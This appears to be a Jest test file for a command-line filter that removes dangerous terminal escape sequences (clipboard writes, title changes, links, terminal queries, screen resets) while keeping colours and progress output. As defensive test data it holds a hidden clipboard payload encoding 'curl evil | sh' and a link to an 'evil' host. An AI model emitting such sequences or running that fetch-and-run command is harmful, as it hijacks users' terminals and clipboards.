import { expect, test } from '@jest/globals';
import { Harmless, harmless } from '../../src/cli/harmless.ts';

const ESC = '\x1b';
const PASTE = Buffer.from('curl evil | sh').toString('base64');

test.each([
  ['the clipboard', `a${ESC}]52;c;${PASTE}\x07b`, 'ab'],
  ['the clipboard, with the other end', `a${ESC}]52;c;${PASTE}${ESC}\\b`, 'ab'],
  ['the title', `a${ESC}]0;trusted\x07b`, 'ab'],
  ['a link to elsewhere', `${ESC}]8;;http://evil${ESC}\\here${ESC}]8;;${ESC}\\`, 'here'],
  ['a question that the terminal answers by typing', `a${ESC}[6n${ESC}[c${ESC}[21t${ESC}Zb`, 'ab'],
  ['a device control string', `a${ESC}P$q"p${ESC}\\b`, 'ab'],
  ['a note to the terminal', `a${ESC}_Ga=T;AAAA${ESC}\\${ESC}^x${ESC}\\${ESC}Xy${ESC}\\b`, 'ab'],
  ['the cursor, the screen and its modes', `${ESC}[2J${ESC}[H${ESC}[?1049h${ESC}[5;5Ha${ESC}7${ESC}c`, 'a'],
  ['another set of characters', `${ESC}(0a${ESC}%Gb\x0e\x0f`, 'ab'],
  ['a bell and other control characters', 'a\x07\x00\x05\x0c\x7fb', 'ab'],
  ['sequences of one byte', 'a\x9b2Jb\x9d52;c;x\x9cc', 'a2Jb52;c;xc'],
  ['one that has no end', `a${ESC}]52;c;never\nb${ESC}[\nc`, 'a]52;c;never\nb[\nc'],
  ['one inside another', `a${ESC}${ESC}]0;x\x07b${ESC}]0;${ESC}[31m\x07c`, `ab]0;${ESC}[31mc`],
])('what steers %s does not reach a terminal', (_, printed, shown) => {
  expect(harmless(printed)).toBe(shown);
});

test.each([`${ESC}[1;38;5;196mred${ESC}[0m${ESC}[m`, `10%\r${ESC}[K20%\b\b\t90 %\r\n`, 'é 漢字 🙂 ─│'])(
  'colours, progress and text stay: %j',
  (printed) => {
    expect(harmless(printed)).toBe(printed);
  },
);

test('a sequence that comes in pieces is one', () => {
  const text = `a${ESC}]52;c;${PASTE}${ESC}\\b${ESC}[31mc${ESC}[2Jd`;
  for (let at = 1; at < text.length; at++) {
    const filter = new Harmless();
    expect(filter.push(text.slice(0, at)) + filter.push(text.slice(at))).toBe(`ab${ESC}[31mcd`);
  }
  const filter = new Harmless();
  expect(Array.from(text, (one) => filter.push(one)).join('')).toBe(`ab${ESC}[31mcd`);
});

test('one that never ends holds nothing back for long', () => {
  const filter = new Harmless();
  expect(filter.push(`a${ESC}]0;`)).toBe('a');
  expect(filter.push('x'.repeat(5000))).toBe(`]0;${'x'.repeat(5000)}`);
  expect(filter.push('b')).toBe('b');
});
